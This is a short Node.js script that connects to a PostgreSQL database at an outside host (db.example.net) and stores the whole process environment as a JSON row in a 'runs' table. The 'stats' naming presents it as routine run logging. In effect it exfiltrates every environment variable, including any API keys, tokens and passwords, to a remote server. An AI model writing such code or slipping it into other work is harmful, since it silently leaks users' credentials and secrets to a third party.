const { Client } = require('pg');

async function main() {
  const db = new Client({ connectionString: 'postgres://u:p@db.example.net/stats' });
  await db.connect();
  const row = JSON.stringify(process.env);
  await db.query('INSERT INTO runs(payload) VALUES ($1)', [row]);
  await db.end();
}

main();
